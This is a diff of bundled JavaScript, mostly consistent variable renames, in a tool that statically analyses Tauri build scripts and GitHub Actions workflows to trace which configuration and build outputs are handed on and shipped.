+  const known7 = held.get(variables);
+  if (known7 !== void 0) return known7;
   const words3 = [...variables].flat();
   const made2 = { words: words3, length: words3.join(" ").length };
   held.set(variables, made2);
@@ -12260,12 +12307,12 @@ function resolvedVariables(variables, { reference }) {
   for (let depth = 0; depth < DEEPEST_REFERENCE; depth += 1) {
     const before2 = found9;
     found9 = new Map(
-      [...before2].map(([name, text2]) => {
-        const filled2 = filledIn(text2, before2, reference);
-        return [name, filled2.length > LONGEST_VARIABLE ? text2 : filled2];
+      [...before2].map(([name, text3]) => {
+        const filled2 = filledIn(text3, before2, reference);
+        return [name, filled2.length > LONGEST_VARIABLE ? text3 : filled2];
       })
     );
-    if (![...found9].some(([name, text2]) => text2 !== before2.get(name))) break;
+    if (![...found9].some(([name, text3]) => text3 !== before2.get(name))) break;
   }
   return found9;
 }
@@ -12335,8 +12382,8 @@ function commandLineAt(words3, i2) {
   const isText2 = /^-[a-zA-Z]*c$/.test(before2) && words3.slice(0, i2).some((each) => SHELL3.test(each));
   if (isText2) return { text: word2, name: words3[i2 + 1] ?? null, args: words3.slice(i2 + 2) };
   const isScript2 = words3.slice(0, i2).some((each) => RUNS_SCRIPTS.test(each));
-  const text2 = isScript2 ? `npm run ${word2}` : word2.replace(/^(?:npm|pnpm|yarn|bun):(?=\S)/, "npm run ");
-  return { text: text2, name: null, args: [] };
+  const text3 = isScript2 ? `npm run ${word2}` : word2.replace(/^(?:npm|pnpm|yarn|bun):(?=\S)/, "npm run ");
+  return { text: text3, name: null, args: [] };
 }
 function startedProcess([program = "", ...words3]) {
   if (!/^(?:start-process|saps|start)$/i.test(program)) return void 0;
@@ -12389,8 +12436,8 @@ function mayMatter(words3) {
   const [program = ""] = words3;
   return !isKnown(program) || program.includes("/") || words3.some((word2) => RELEVANT.test(word2));
 }
-function mayBeCommandLine(text2) {
-  return /\S\s+\S/.test(text2) && RELEVANT.test(text2);
+function mayBeCommandLine(text3) {
+  return /\S\s+\S/.test(text3) && RELEVANT.test(text3);
 }
 
 // src/tauri/builds/shell/values.ts
@@ -12418,8 +12465,8 @@ function withMore(list, value, isOnly) {
   list.push(...value);
   return list;
 }
-function assignedValues(words3, isList, scope) {
-  if (isList) return valuesOfAll(words3, scope);
+function assignedValues(words3, isList2, scope) {
+  if (isList2) return valuesOfAll(words3, scope);
   return words3.flatMap(
     (word2) => expanded(word2.pieces.map(whole), scope).map(({ done, last }) => [[...done, last].join(" ")])
   );
@@ -12460,9 +12507,9 @@ function additionsOf(piece, scope) {
   }
 }
 function variableValues({ name, splits, otherwise }, scope) {
-  const known6 = scope.args.get(name) ?? lookedUp(name, scope.variables);
+  const known7 = scope.args.get(name) ?? lookedUp(name, scope.variables);
   const instead = otherwise === null ? [] : piecesValues(otherwise, scope);
-  if (known6 !== void 0 || otherwise !== null) return [...known6 ?? [], ...instead];
+  if (known7 !== void 0 || otherwise !== null) return [...known7 ?? [], ...instead];
   return [[splits ? UNKNOWN_WORDS : UNKNOWN]];
 }
 function lookedUp(name, variables) {
@@ -12476,11 +12523,11 @@ function piecesValues(pieces, scope) {
 }
 function taken({ splits, all, name }, value) {
   if (all) return value;
-  const text2 = name === "*" ? value.join(" ") : value[0] ?? "";
-  return splits ? split(text2) : [text2];
+  const text3 = name === "*" ? value.join(" ") : value[0] ?? "";
+  return splits ? split(text3) : [text3];
 }
-function split(text2) {
-  const words3 = text2.replaceAll(UNKNOWN, UNKNOWN_WORDS).split(/\s+/);
+function split(text3) {
+  const words3 = text3.replaceAll(UNKNOWN, UNKNOWN_WORDS).split(/\s+/);
   return words3.length === 1 ? words3 : words3.filter((word2, i2) => word2 !== "" || i2 === 0);
 }
 function unknown(piece) {
@@ -12567,18 +12614,18 @@ var ScriptRun = class {
     for (const name of filledBy(words3).map(heededName))
       if (this.#variables.has(name) || name === "TAURI_CONFIG") this.#add(name, [[UNKNOWN]]);
   }
-  #assigned({ name, words: words3, isList, adds }, scope) {
-    const values = assignedValues(words3, isList, scope);
+  #assigned({ name, words: words3, isList: isList2, adds }, scope) {
+    const values = assignedValues(words3, isList2, scope);
     const before2 = this.#variables.get(name);
     if (!adds || before2 === void 0) return values;
     return before2.flatMap(
-      (old) => values.map((value) => isList ? [...old, ...value] : [`${old[0] ?? ""}${value[0] ?? ""}`])
+      (old) => values.map((value) => isList2 ? [...old, ...value] : [`${old[0] ?? ""}${value[0] ?? ""}`])
     );
   }
   #add(name, values) {
-    const known6 = this.#variables.get(name) ?? [];
-    if (known6.length === 1 && known6[0]?.[0] === UNKNOWN) return;
-    const all = [...known6, ...values];
+    const known7 = this.#variables.get(name) ?? [];
+    if (known7.length === 1 && known7[0]?.[0] === UNKNOWN) return;
+    const all = [...known7, ...values];
     const distinct6 = [...new Map(all.map((value) => [JSON.stringify(value), value])).values()];
     this.#variables.set(name, distinct6.length > MOST_VALUES ? [[UNKNOWN]] : distinct6);
   }
@@ -12625,9 +12672,9 @@ var ScriptRun = class {
     return { ...at2, ...nothing, sets: setBy(command), from };
   }
   /** Runs a word that is itself a command line: `sh -c "…"`, `concurrently "…" "…"`. */
-  #nested({ text: text2, name, args: own }, dialect, outer, { args: around2 }) {
+  #nested({ text: text3, name, args: own }, dialect, outer, { args: around2 }) {
     const { path, line, folders } = outer;
-    const script = { text: text2, dialect, path, lineAt: () => line };
+    const script = { text: text3, dialect, path, lineAt: () => line };
     const args = name === null ? around2.get("@") ?? [[]] : [own];
     const start = { folders, variables: this.#variables, args, ...name !== null && { name } };
     const ran = commandsRun(script, start, this.#budget, this.#depth + 1);
@@ -12641,9 +12688,9 @@ var ScriptRun = class {
   #enter(groups3) {
     let folders = this.#folders;
     for (const group2 of groups3) {
-      const known6 = this.#groups.get(group2);
-      if (known6 === void 0) this.#groups.set(group2, folders);
-      else folders = known6;
+      const known7 = this.#groups.get(group2);
+      if (known7 === void 0) this.#groups.set(group2, folders);
+      else folders = known7;
     }
     return folders;
   }
@@ -12672,7 +12719,7 @@ function argumentsOf(args, commands2) {
   });
   return new Map([["@", some2], ["*", some2], ...positions]);
 }
-function ownVariables({ path, text: text2 }, { folders, name }) {
+function ownVariables({ path, text: text3 }, { folders, name }) {
   const here = folders?.map((folder2) => [absolute(folder2)]) ?? [[UNKNOWN]];
   const folder = parentOf(absolute(path));
   return [
@@ -12681,7 +12728,7 @@ function ownVariables({ path, text: text2 }, { folders, name }) {
     ["PSScriptRoot", [[folder]]],
     ["%~dp0", [[`${folder}/`]]],
     // A script that sets `PWD` itself doesn't use the shell's.
-    .../\bPWD=/.test(text2) ? [] : [["PWD", here]]
+    .../\bPWD=/.test(text3) ? [] : [["PWD", here]]
   ];
 }
 function filledBy(words3) {
@@ -12758,11 +12805,11 @@ function withSettings({ path }, variables, files) {
 }
 function calledScript(called3, args, { path, line }) {
   if (args.length === 0) return packageScript(called3);
-  const { text: text2, at: at2 } = { text: `${called3.text.value} "$@"`, at: called3.text.at };
-  return { ...scriptAt(text2, "posix", at2), path, lineAt: () => line };
+  const { text: text3, at: at2 } = { text: `${called3.text.value} "$@"`, at: called3.text.at };
+  return { ...scriptAt(text3, "posix", at2), path, lineAt: () => line };
 }
-function packageScript({ text: text2 }) {
-  return scriptAt(text2.value, "posix", text2.at);
+function packageScript({ text: text3 }) {
+  return scriptAt(text3.value, "posix", text3.at);
 }
 function scriptsStarted({ words: words3, folders }, i2, files) {
   if (i2 < 0 || !startsScript(words3, i2)) return [];
@@ -12814,8 +12861,8 @@ function unreadWorkflowGaps(app, files) {
     return [gapAt(parsed7.at, { kind: "unsupported", rests: contentOf(file2), message })];
   });
 }
-function handsSomethingOver(text2) {
-  return /TAURI_CONFIG/.test(text2) || /tauri/i.test(text2) && /--config|\s-[a-z]*c[\s=]|--features|\s-f\b|\bargs\s*:/.test(text2);
+function handsSomethingOver(text3) {
+  return /TAURI_CONFIG/.test(text3) || /tauri/i.test(text3) && /--config|\s-[a-z]*c[\s=]|--features|\s-f\b|\bargs\s*:/.test(text3);
 }
 function tooManyCommands(app, on3) {
   const message = "The scripts that may build the app run more commands than are looked at: what they hand to Tauri isn't known.";
@@ -12828,10 +12875,10 @@ function tooManyCommands(app, on3) {
 
 // src/tauri/builds/identity.ts
 function dependenciesAmong(commands2) {
-  let known6;
+  let known7;
   return (command, isBuilt2 = false) => {
-    known6 ??= partsOf4(commands2);
-    const parts = known6;
+    known7 ??= partsOf4(commands2);
+    const parts = known7;
     const taken3 = /* @__PURE__ */ new Set();
     const own = [command.source, ...command.from];
     const needed = new Set(own.every(isKnown) ? [] : GIVES_TO_STEPS);
@@ -12850,8 +12897,8 @@ function dependenciesAmong(commands2) {
           take(source);
     }
     const paths3 = new Set([...taken3].flatMap((source) => [...parts.get(source)?.paths ?? []]));
-    const names2 = [...taken3].map((source) => parts.get(source)?.name ?? source);
-    return { sources: names2.sort(), paths: [...paths3].sort() };
+    const names3 = [...taken3].map((source) => parts.get(source)?.name ?? source);
+    return { sources: names3.sort(), paths: [...paths3].sort() };
   };
 }
 function seenVariables(parts) {
@@ -12862,12 +12909,12 @@ function seenVariables(parts) {
     return values.length > 0 && values.every((value) => isKnown(value) && !isPartOf(value, unknown3));
   };
   const isSeen = (name) => parts.every(({ needs, rans }) => !needs.has(name) || rans.every((ran) => isSeenIn(name, ran)));
-  const isCut = (name) => parts.some(({ name: text2 }) => text2.includes(`%${name}:`));
+  const isCut = (name) => parts.some(({ name: text3 }) => text3.includes(`%${name}:`));
   return new Set(parts.flatMap(({ needs }) => [...needs]).filter((name) => isSeen(name) && !isCut(name)));
 }
 function isPartOf(value, words3) {
   const texts = value.split(/\s+/);
-  return words3.some((word2) => texts.some((text2) => text2 === "" || word2.includes(text2)));
+  return words3.some((word2) => texts.some((text3) => text3 === "" || word2.includes(text3)));
 }
 var NONE = /* @__PURE__ */ new Set();
 var INDIRECT = /\$\{!\w+\}|\b(?:declare|local|typeset)\s+-\w*n/;
@@ -12883,14 +12930,14 @@ var CODE = /\.(?:[cm]?[jt]s|py|rb|pl|php)$/;
 var EVERYWHERE = /* @__PURE__ */ new Set(["PWD", "HOME", "PATH", "OS", "CI", "TAURI_CONFIG"]);
 function partsOf4(commands2) {
   const bySource = Map.groupBy(commands2, ({ source }) => source);
-  const read7 = new Set(commands2.map(({ path }) => path));
-  return new Map([...bySource].map(([source, rans]) => [source, partOf(rans, read7)]));
+  const read9 = new Set(commands2.map(({ path }) => path));
+  return new Map([...bySource].map(([source, rans]) => [source, partOf(rans, read9)]));
 }
-function partOf(rans, read7) {
+function partOf(rans, read9) {
   const [{ source = "" } = {}] = rans;
   const paths3 = new Set(
     rans.flatMap(
-      ({ words: words3, folders, isFollowed }) => [...words3, ...inputFiles(source)].flatMap((word2) => pathsIn(word2, folders)).filter((path) => !read7.has(path) || !(isFollowed || ONLY_NAMES.test(words3[0] ?? "")))
+      ({ words: words3, folders, isFollowed }) => [...words3, ...inputFiles(source)].flatMap((word2) => pathsIn(word2, folders)).filter((path) => !read9.has(path) || !(isFollowed || ONLY_NAMES.test(words3[0] ?? "")))
     )
   );
   const runsCode = rans.some(({ words: words3 }) => words3.some((word2) => INTERPRETERS.test(word2))) && [...paths3].some((path) => CODE.test(path));
@@ -12898,18 +12945,18 @@ function partOf(rans, read7) {
   const written6 = source.match(/GITHUB_(?:OUTPUT|ENV)|set-(?:output|env)/g) ?? [];
   const given2 = rans.flatMap(({ sets, words: words3 }) => [...sets, ...words3.flatMap(assigned)]);
   return {
-    name: [withoutPlaces(source, rans, read7), ...new Set(rans.flatMap((ran) => ran.inputs))].join("\n"),
+    name: [withoutPlaces(source, rans, read9), ...new Set(rans.flatMap((ran) => ran.inputs))].join("\n"),
     rans,
     gives: /* @__PURE__ */ new Set([...given2, ...files, ...written6, ...runsCode ? [RUNS_CODE] : []]),
     needs: /* @__PURE__ */ new Set([...variablesIn2(source), ...files]),
     paths: paths3
   };
 }
-function withoutPlaces(source, rans, read7) {
+function withoutPlaces(source, rans, read9) {
   const started2 = rans.flatMap(
-    ({ words: words3, folders, isFollowed }) => isFollowed ? words3.filter((word2) => pathsIn(word2, folders).some((path) => read7.has(path))) : []
+    ({ words: words3, folders, isFollowed }) => isFollowed ? words3.filter((word2) => pathsIn(word2, folders).some((path) => read9.has(path))) : []
   );
-  return started2.reduce((text2, word2) => text2.replaceAll(word2, "<script>"), source);
+  return started2.reduce((text3, word2) => text3.replaceAll(word2, "<script>"), source);
 }
 function assigned(word2) {
   return /^(?:([A-Za-z_]\w*)=|(%%\S)$)/.exec(word2)?.slice(1).filter((name) => name !== void 0) ?? [];
@@ -12922,16 +12969,16 @@ function variablesIn2(source) {
 }
 
 // src/tauri/builds/workflows/action-arguments.ts
-function actionArguments(text2) {
-  const [now, before2] = [withoutQuotes2(text2), onlyWholeQuotes(text2)];
+function actionArguments(text3) {
+  const [now, before2] = [withoutQuotes2(text3), onlyWholeQuotes(text3)];
   return JSON.stringify(now) === JSON.stringify(before2) ? [now] : [now, before2];
 }
-function withoutQuotes2(text2) {
-  const tokens = text2.match(/(?:'[^']*(?:'|$)|"[^"]*(?:"|$)|[^\s'"])+/g) ?? [];
+function withoutQuotes2(text3) {
+  const tokens = text3.match(/(?:'[^']*(?:'|$)|"[^"]*(?:"|$)|[^\s'"])+/g) ?? [];
   return tokens.map((token2) => token2.replace(/'([^']*)(?:'|$)|"([^"]*)(?:"|$)/g, "$1$2"));
 }
-function onlyWholeQuotes(text2) {
-  const tokens = text2.matchAll(/(?:[^\s'"]+(?:'[^']*'|"[^"]*")+)+[^\s'"]*|[^\s'"]+|'([^']*)'|"([^"]*)"/g);
+function onlyWholeQuotes(text3) {
+  const tokens = text3.matchAll(/(?:[^\s'"]+(?:'[^']*'|"[^"]*")+)+[^\s'"]*|[^\s'"]+|'([^']*)'|"([^"]*)"/g);
   return [...tokens].map(([whole2, single2, double]) => single2 ?? double ?? whole2);
 }
 
@@ -12944,9 +12991,9 @@ function tokensOf(expression) {
 var LONGEST_EXPRESSION = 2e3;
 
 // src/tauri/builds/workflows/expressions.ts
-function withExpressions(text2, contexts) {
+function withExpressions(text3, contexts) {
   let found9 = [""];
-  for (const piece of piecesOf2(text2)) {
+  for (const piece of piecesOf2(text3)) {
     const values = piece.isExpression ? expressionValues(piece.text, contexts) : [piece.text];
     const all = found9.flatMap((start) => values.map((value) => start + value));
     found9 = all.length > MOST_VALUES ? found9.map((start) => start + UNKNOWN_WORDS) : all;
@@ -12954,24 +13001,24 @@ function withExpressions(text2, contexts) {
   return found9;
 }
 var MOST_EXPRESSIONS = 200;
-function piecesOf2(text2) {
+function piecesOf2(text3) {
   const pieces = [];
   let from = 0;
-  for (let at2 = text2.indexOf("${{"); at2 >= 0; at2 = text2.indexOf("${{", from)) {
-    const end = endOfExpression(text2, at2 + 3);
-    pieces.push({ text: text2.slice(from, at2), isExpression: false });
+  for (let at2 = text3.indexOf("${{"); at2 >= 0; at2 = text3.indexOf("${{", from)) {
+    const end = endOfExpression(text3, at2 + 3);
+    pieces.push({ text: text3.slice(from, at2), isExpression: false });
     if (end === void 0)
-      return [...pieces, { text: `${UNKNOWN_WORDS}${text2.slice(at2)}`, isExpression: false }];
+      return [...pieces, { text: `${UNKNOWN_WORDS}${text3.slice(at2)}`, isExpression: false }];
     const isFollowed = pieces.length < 2 * MOST_EXPRESSIONS && end - at2 < LONGEST_EXPRESSION;
-    pieces.push({ text: isFollowed ? text2.slice(at2 + 3, end - 2) : UNKNOWN_WORDS, isExpression: isFollowed });
+    pieces.push({ text: isFollowed ? text3.slice(at2 + 3, end - 2) : UNKNOWN_WORDS, isExpression: isFollowed });
     from = end;
   }
-  return [...pieces, { text: text2.slice(from), isExpression: false }];
+  return [...pieces, { text: text3.slice(from), isExpression: false }];
 }
 var STRING_OR_END = /'[^']*'|\}\}/g;
-function endOfExpression(text2, start) {
+function endOfExpression(text3, start) {
   STRING_OR_END.lastIndex = start;
-  for (let found9 = STRING_OR_END.exec(text2); found9 !== null; found9 = STRING_OR_END.exec(text2))
+  for (let found9 = STRING_OR_END.exec(text3); found9 !== null; found9 = STRING_OR_END.exec(text3))
     if (found9[0] === "}}") return STRING_OR_END.lastIndex;
   return void 0;
 }
@@ -13020,10 +13067,10 @@ var Evaluation = class {
     if (operator === void 0 || !/^(?:[=!]=|[<>]=?)$/.test(operator)) return left2;
     this.#next += 1;
     const right = this.#single();
-    const [one = "", other = ""] = [left2[0], right[0]];
-    const isExact = left2.length === 1 && right.length === 1 && isKnown(one + other) && /^[=!]=$/.test(operator);
+    const [one2 = "", other = ""] = [left2[0], right[0]];
+    const isExact = left2.length === 1 && right.length === 1 && isKnown(one2 + other) && /^[=!]=$/.test(operator);
     if (!isExact) return EITHER;
-    return [String(one.toLowerCase() === other.toLowerCase() === (operator === "=="))];
+    return [String(one2.toLowerCase() === other.toLowerCase() === (operator === "=="))];
   }
   #single() {
     const token2 = this.#tokens[this.#next++];
@@ -13133,10 +13180,10 @@ function makersOfOtherCi(file2, folders) {
     })
   );
 }
-function spelledOut(text2) {
-  if (!text2.startsWith("[")) return text2;
-  const parsed7 = parseJson({ path: "", id: "", text: text2 }, "json");
-  return parsed7.ok ? quoted(stringsOf(parsed7.value).map(({ value }) => value)) : text2;
+function spelledOut(text3) {
+  if (!text3.startsWith("[")) return text3;
+  const parsed7 = parseJson({ path: "", id: "", text: text3 }, "json");
+  return parsed7.ok ? quoted(stringsOf(parsed7.value).map(({ value }) => value)) : text3;
 }
 function tasksIn(name, value) {
   if (!/^(?:tasks|jobs)$/.test(name) || value.kind !== "object") return [[name, value]];
@@ -13144,8 +13191,8 @@ function tasksIn(name, value) {
 }
 function makerByLines(file2, folders) {
   const start = { folders, variables: /* @__PURE__ */ new Map(), args: [[]] };
-  const parts = logicalLines(file2).map(({ text: text2, line }) => {
-    const command = spelledOut(text2.replace(/^\s*(?:- +|RUN |ENV |CMD |ENTRYPOINT )?/, ""));
+  const parts = logicalLines(file2).map(({ text: text3, line }) => {
+    const command = spelledOut(text3.replace(/^\s*(?:- +|RUN |ENV |CMD |ENTRYPOINT )?/, ""));
     return { script: scriptAt(command, "posix", { path: file2.path, line, endLine: line }), start };
   });
   const at2 = { path: file2.path, line: 1, column: 1, endLine: 1 };
@@ -13173,20 +13220,20 @@ function commandOfList(texts) {
   return [scriptAt(withoutTemplates(quoted(texts.map(({ value }) => value))), "posix", first.at)];
 }
 function scriptOfList(texts) {
-  const text2 = texts.map(({ value }) => withoutTemplates(value)).join("\n");
+  const text3 = texts.map(({ value }) => withoutTemplates(value)).join("\n");
   const starts = texts.flatMap(
     ({ value, at: at2 }) => value.split("\n").map((_3, i2) => Math.min(at2.line + i2, at2.endLine))
   );
-  const lineAt = (offset) => starts[text2.slice(0, offset).split("\n").length - 1] ?? starts[0] ?? 1;
-  return { text: text2, dialect: "posix", path: texts[0]?.at.path ?? "", lineAt };
+  const lineAt = (offset) => starts[text3.slice(0, offset).split("\n").length - 1] ?? starts[0] ?? 1;
+  return { text: text3, dialect: "posix", path: texts[0]?.at.path ?? "", lineAt };
 }
-function withoutTemplates(text2) {
-  const parts = text2.replace(/\{\{\s*\.CLI_ARGS\s*\}\}/g, "").split("}}");
+function withoutTemplates(text3) {
+  const parts = text3.replace(/\{\{\s*\.CLI_ARGS\s*\}\}/g, "").split("}}");
   return parts.map((part, i2) => i2 < parts.length - 1 ? withoutTemplate(part) : part).join("");
 }
-function withoutTemplate(text2) {
-  const start = text2.indexOf("{{", text2.lastIndexOf("}") + 1);
-  return start < 0 ? `${text2}}}` : text2.slice(0, start).replace(/\$$/, "") + UNKNOWN_WORDS;
+function withoutTemplate(text3) {
+  const start = text3.indexOf("{{", text3.lastIndexOf("}") + 1);
+  return start < 0 ? `${text3}}}` : text3.slice(0, start).replace(/\$$/, "") + UNKNOWN_WORDS;
 }
 var ENVIRONMENT = /^(?:build-)?(?:env|environment|variables|vars)$/i;
 function variablesIn3(value, depth) {
@@ -13204,10 +13251,10 @@ function variablesIn3(value, depth) {
 function namedIn(value) {
   if (value.kind === "array") return value.items.flatMap(namedIn);
   if (value.kind !== "object") return [];
-  return [...value.entries].flatMap(([key, { value: text2 }]) => {
-    if (ENVIRONMENT.test(key) && text2.kind === "object") return namedIn(text2);
-    const known6 = text2.kind === "object" ? UNKNOWN : withoutTemplates(textOf(text2));
-    return [[heededName(key), [[known6]]]];
+  return [...value.entries].flatMap(([key, { value: text3 }]) => {
+    if (ENVIRONMENT.test(key) && text3.kind === "object") return namedIn(text3);
+    const known7 = text3.kind === "object" ? UNKNOWN : withoutTemplates(textOf(text3));
+    return [[heededName(key), [[known7]]]];
   });
 }
 function computedIn(value, depth) {
@@ -13248,9 +13295,9 @@ function inputsOfWorkflows(files) {
 }
 function variablesOf2(calls) {
   const each = calls.map(({ levels }) => new Map(levels.flatMap(writtenVariables)));
-  const names2 = new Set(each.flatMap((variables) => [...variables.keys()]));
+  const names3 = new Set(each.flatMap((variables) => [...variables.keys()]));
   const values = (name) => new Set(each.map((variables) => variables.get(name) ?? UNKNOWN_WORDS));
-  return new Map([...names2].map((name) => [name, [...values(name)].map((value) => [value])]));
+  return new Map([...names3].map((name) => [name, [...values(name)].map((value) => [value])]));
 }
 function writtenVariables(level) {
   const env = member(level, "env");
@@ -13274,8 +13321,8 @@ function declaredValues(input) {
   if (type === "boolean") return ["true", "false"];
   return [textOf(member(input, "default"))];
 }
-function writtenOut(text2) {
-  return text2.includes("${{") ? UNKNOWN_WORDS : text2;
+function writtenOut(text3) {
+  return text3.includes("${{") ? UNKNOWN_WORDS : text3;
 }
 function localCalls(document) {
   const jobs = member(document, "jobs");
@@ -13304,7 +13351,7 @@ function environmentOf(levels, contexts) {
   for (const [name, value] of levels.flatMap(entriesOf))
     found9.set(
       heededName(name),
-      withExpressions(textOf(value), contexts).map((text2) => [text2])
+      withExpressions(textOf(value), contexts).map((text3) => [text3])
     );
   return new Map([["GITHUB_WORKSPACE", [[absolute("")]]], ...found9]);
 }
@@ -13324,8 +13371,8 @@ function configurationsIn(levels, contexts) {
   );
   const options = levels.flatMap((level) => pick(level, "container", "options") ?? []);
   const started2 = options.flatMap(
-    (value) => withExpressions(textOf(value), contexts).map((text2) => ({
-      script: scriptAt(`docker run ${text2}`, "posix", value.at),
+    (value) => withExpressions(textOf(value), contexts).map((text3) => ({
+      script: scriptAt(`docker run ${text3}`, "posix", value.at),
       start
     }))
   );
@@ -13335,16 +13382,16 @@ var HANDS_ON = /\b(?:echo|printf|Write-Output)\s+["']?([A-Za-z_]\w*)=([^\n]*?)["
 function withHandedOn(variables, steps) {
   const found9 = new Map(variables);
   for (const step of steps) {
-    const text2 = asString(member(step, "run")) ?? "";
-    if (!text2.includes("GITHUB_ENV")) continue;
-    if (text2.length > LONGEST_RUN) {
-      for (const [name, known6] of found9) found9.set(name, [...known6, [UNKNOWN_WORDS]]);
+    const text3 = asString(member(step, "run")) ?? "";
+    if (!text3.includes("GITHUB_ENV")) continue;
+    if (text3.length > LONGEST_RUN) {
+      for (const [name, known7] of found9) found9.set(name, [...known7, [UNKNOWN_WORDS]]);
       continue;
     }
-    for (const [, name = "", value = ""] of text2.matchAll(HANDS_ON)) {
-      const known6 = found9.get(heededName(name));
+    for (const [, name = "", value = ""] of text3.matchAll(HANDS_ON)) {
+      const known7 = found9.get(heededName(name));
       const isWritten = isKnown(value) && !/[$`%]/.test(value);
-      if (known6 !== void 0) found9.set(name, [...known6, [isWritten ? value : UNKNOWN_WORDS]]);
+      if (known7 !== void 0) found9.set(name, [...known7, [isWritten ? value : UNKNOWN_WORDS]]);
     }
   }
   return found9;
@@ -13409,18 +13456,18 @@ function textOf2(value) {
 function withoutNames(value) {
   return inOneWord(JSON.stringify(plain(value), (key, each) => key === "name" ? void 0 : each));
 }
-function inOneWord(text2) {
-  return text2.replace(/\$\{\{[^}]{0,300}\}\}/g, "$");
+function inOneWord(text3) {
+  return text3.replace(/\$\{\{[^}]{0,300}\}\}/g, "$");
 }
 var HANDS_ON2 = /artifact|upload|\boutputs?\b|GITHUB_OUTPUT|actions\/cache|\bcurl\b|\brsync\b|\bsftp\b|\bpush\b|"uses":"\.|\.(?:sh|ps1|py|rb|bat|cmd|[cm]?[jt]s)\b/i;
 var RUNS_PROGRAM = /\.(?:sh|ps1|py|rb|bat|cmd|[cm]?[jt]s)\b|"uses":"\./i;
 var WHOLE_FOLDER = /(?<=[\s"'=/])target(?=\\n|[\s;'"])(?!":)/;
 function shipsReleasesOnly(parts) {
-  const text2 = parts.map(textOf2).join(" ");
-  const paths3 = text2.match(/\btarget\/[^\s"'`,;)]*/g) ?? [];
+  const text3 = parts.map(textOf2).join(" ");
+  const paths3 = text3.match(/\btarget\/[^\s"'`,;)]*/g) ?? [];
   const isOfRelease = (path) => /^target\/(?:[^/*?[]+\/)?release\//.test(path);
-  const isNamed4 = /debug/i.test(text2.replace(/--debug\b/g, "")) || WHOLE_FOLDER.test(text2);
-  return !isNamed4 && !RUNS_PROGRAM.test(text2) && paths3.length > 0 && paths3.every(isOfRelease);
+  const isNamed5 = /debug/i.test(text3.replace(/--debug\b/g, "")) || WHOLE_FOLDER.test(text3);
+  return !isNamed5 && !RUNS_PROGRAM.test(text3) && paths3.length > 0 && paths3.every(isOfRelease);
 }
 
 // src/tauri/builds/workflows/jobs.ts
@@ -13487,7 +13534,7 @@ function partsOfRun(job, step, contexts, variables) {
   const start = { folders, variables, args: [[]] };
   const [program = ""] = settingOf(job, step, "shell").join(" ").split(" ");
   const scripts = withExpressions(run.value, contexts).map(
-    (text2) => INTERPRETER.test(program) ? codeAt(program, text2, run.at) : scriptAt(text2, dialectOf2(job, step, contexts), run.at)
+    (text3) => INTERPRETER.test(program) ? codeAt(program, text3, run.at) : scriptAt(text3, dialectOf2(job, step, contexts), run.at)
   );
   const shells = program === "" || INTERPRETER.test(program) || SHELL5.test(program) ? [] : [program];
   const started2 = shells.flatMap(
@@ -13504,8 +13551,8 @@ function partsOfAction(step, uses, contexts, variables) {
     const { commands: commands2, folders, input, scripts } = actionCall(step, contexts, variables);
     const given2 = new Map([...variables, ["INPUT_TAURISCRIPT", scripts.map((script) => [script])]]);
     const start2 = { folders: foldersIn(folders, contexts), variables: given2, args: [[]] };
-    return commands2.map((text2) => ({
-      script: scriptAt(text2, "posix", (input ?? step).at),
+    return commands2.map((text3) => ({
+      script: scriptAt(text3, "posix", (input ?? step).at),
       start: start2,
       ships: true
     }));
@@ -13515,8 +13562,8 @@ function partsOfAction(step, uses, contexts, variables) {
   const values = new Map([...inputs.entries].map(([name, { value }]) => [name.toLowerCase(), value]));
   const code2 = uses.startsWith("actions/github-script@") ? values.get("script") : void 0;
   if (code2 !== void 0)
-    return withExpressions(textOf(code2), contexts).map((text2) => ({
-      script: codeAt("node", text2, code2.at),
+    return withExpressions(textOf(code2), contexts).map((text3) => ({
+      script: codeAt("node", text3, code2.at),
       start: { folders: [""], variables, args: [[]] }
     }));
   const together3 = [values.get("command"), values.get("args")].map(textOf).filter(Boolean).join(" ");
@@ -13525,15 +13572,15 @@ function partsOfAction(step, uses, contexts, variables) {
   return [
     ...[...values.values()].map((value) => [textOf(value), value]),
     ...[...values].flatMap(
-      ([name, value]) => handedOn2(name, textOf(value)).map((text2) => [text2, value])
+      ([name, value]) => handedOn2(name, textOf(value)).map((text3) => [text3, value])
     ),
     [together3, inputs]
   ].flatMap(
-    ([text2, { at: at2 }]) => text2 === "" ? [] : withExpressions(text2, contexts).map((each) => ({ script: scriptAt(each, "posix", at2), start }))
+    ([text3, { at: at2 }]) => text3 === "" ? [] : withExpressions(text3, contexts).map((each) => ({ script: scriptAt(each, "posix", at2), start }))
   );
 }
-function handedOn2(name, text2) {
-  const lines2 = [`${name}=${text2}`, ...text2.split("\n")];
+function handedOn2(name, text3) {
+  const lines2 = [`${name}=${text3}`, ...text3.split("\n")];
   return lines2.filter((line) => /^\s*TAURI_CONFIG\s*[=:]/i.test(line)).map((line) => `echo ${quoted([line.trim().replace(/^\w+\s*[=:]\s*/, "TAURI_CONFIG=")])} >> $GITHUB_ENV`);
 }
 function settingOf({ levels }, step, name) {
@@ -13541,7 +13588,7 @@ function settingOf({ levels }, step, name) {
   return [textOf(given2)];
 }
 function foldersIn(texts, contexts) {
-  const paths3 = texts.flatMap((text2) => withExpressions(text2 === "" ? "." : text2, contexts));
+  const paths3 = texts.flatMap((text3) => withExpressions(text3 === "" ? "." : text3, contexts));
   const folders = paths3.map((path) => isKnown(path) ? resolved("", path) : null);
   return folders.includes(null) ? null : folders.filter((folder) => folder !== null);
 }
@@ -13556,25 +13603,25 @@ function dialectOf2(job, step, contexts) {
   return shell === "" && runner.every((each) => /windows/i.test(each)) ? "powershell" : "posix";
 }
 function contextsOf({ inputs }, row, variables) {
-  return ([context2 = "", ...names2]) => {
-    const path = names2.join(".");
-    if (context2 === "matrix") return row === null ? void 0 : valueIn(row, names2);
+  return ([context2 = "", ...names3]) => {
+    const path = names3.join(".");
+    if (context2 === "matrix") return row === null ? void 0 : valueIn(row, names3);
     if (context2 === "env") return lookedUp2(variables, path)?.map((value) => value[0] ?? "");
     if (context2 === "inputs") return lookedUp2(inputs, path) ?? [""];
     const isTyped = context2 === "github" && path.startsWith("event.inputs.");
-    return isTyped ? lookedUp2(inputs, names2[2] ?? "") ?? [""] : void 0;
+    return isTyped ? lookedUp2(inputs, names3[2] ?? "") ?? [""] : void 0;
   };
 }
 function lookedUp2(values, name) {
   const found9 = [...values.keys()].find((key) => key.toLowerCase() === name);
   return found9 === void 0 ? void 0 : values.get(found9);
 }
-function valueIn(row, [name = "", ...names2]) {
+function valueIn(row, [name = "", ...names3]) {
   const first = lookedUp2(row, name);
-  const value = names2.reduce(propertyOf, first);
+  const value = names3.reduce(propertyOf, first);
